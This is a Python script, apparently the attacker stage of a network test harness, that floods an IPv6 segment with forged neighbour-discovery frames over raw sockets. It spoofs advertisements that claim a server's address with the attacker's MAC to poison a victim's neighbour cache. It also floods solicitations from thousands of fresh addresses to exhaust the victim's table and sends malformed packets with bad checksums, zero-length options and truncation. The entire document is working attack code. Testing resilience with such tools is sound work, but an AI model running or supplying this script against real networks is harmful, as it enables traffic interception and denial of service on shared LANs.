#!/usr/bin/env python3
"""An IPv6 attacker on the segment (scripts/neigh.sh, root): raw frames on IFACE for N s.

    ndpflood.py IFACE CLAIM_IP VICTIM_IP VICTIM_MAC SECONDS

Each round sends, from IFACE's own MAC (neighbour discovery, RFC 4861, as a forger
would: hop limit 255 and right checksums, unless said otherwise):
  * an unsolicited advertisement claiming CLAIM_IP (the server's address) with the
    attacker's MAC, override set, to all nodes, and the same as a solicited
    advertisement to the victim (the client), which never asked;
  * solicited advertisements to the victim for 64 addresses nobody asked for;
  * solicitations for the victim's address from 32 new source addresses each round
    (fd77::1:N, N counting up: thousands over the run), each with its source
    link-layer address, which the victim may take in (RFC 826's merge) only within its
    table's size;
  * malformed ones to the victim's MAC: a solicitation with hop limit 64, one with a
    bad checksum, one whose option has length 0, one truncated, and an echo request
    with a bad checksum.
Prints the number of frames sent.
"""
import socket
import struct
import sys
import time

iface, claim, victim_ip, victim_mac, seconds = sys.argv[1:6]
ip6 = lambda s: socket.inet_pton(socket.AF_INET6, s)
mac = lambda s: bytes(int(b, 16) for b in s.split(":"))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
me = s.getsockname()[4][:6]
vmac, vip, cip = mac(victim_mac), ip6(victim_ip), ip6(claim)
all_nodes, all_nodes_mac = ip6("ff02::1"), b"\x33\x33\x00\x00\x00\x01"


def csum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def icmp6(dst_mac, src, dst, body, hop=255, bad_sum=False):
    """An ICMPv6 frame; `body` starts with type and code, its checksum filled in."""
    pseudo = src + dst + struct.pack("!I3xB", len(body), 58)
    c = csum(pseudo + body[:2] + b"\0\0" + body[4:])
    if bad_sum:
        c ^= 0x5A5A
    body = body[:2] + struct.pack("!H", c) + body[4:]
    ip = struct.pack("!IHBB", 6 << 28, len(body), 58, hop) + src + dst
    return dst_mac + me + b"\x86\xdd" + ip + body


def advert(dst_mac, dst, target, solicited):
    flags = (0x40000000 if solicited else 0) | 0x20000000  # S, O
    body = struct.pack("!BBHI", 136, 0, 0, flags) + target + b"\x02\x01" + me
    return icmp6(dst_mac, cip if target == cip else target, dst, body)


def solicit(src, hop=255, bad_sum=False, zero_option=False):
    option = b"\x01\x00" + me if zero_option else b"\x01\x01" + me
    body = struct.pack("!BBHI", 135, 0, 0, 0) + vip + option
    return icmp6(vmac, src, vip, body, hop=hop, bad_sum=bad_sum)


frames = [
    advert(all_nodes_mac, all_nodes, cip, False),
    advert(vmac, vip, cip, True),
    solicit(ip6("fd77::2:1"), hop=64),
    solicit(ip6("fd77::2:2"), bad_sum=True),
    solicit(ip6("fd77::2:3"), zero_option=True),
    solicit(ip6("fd77::2:4"))[:70],
    icmp6(vmac, cip, vip, struct.pack("!BBHHH", 128, 0, 0, 1, 1) + b"x" * 8, hop=64, bad_sum=True),
]
frames += [advert(vmac, vip, ip6("fd77::3:%x" % i), True) for i in range(64)]
sent, n, end = 0, 0, time.time() + float(seconds)
while time.time() < end:
    fresh = []
    for _ in range(32):
        n += 1
        fresh.append(solicit(ip6("fd77::1:%x:%x" % (n >> 16 & 0xFFFF, n & 0xFFFF))))
    for f in frames + fresh:
        try:
            s.send(f)
            sent += 1
        except OSError:
            pass
    time.sleep(0.001)
print(sent)
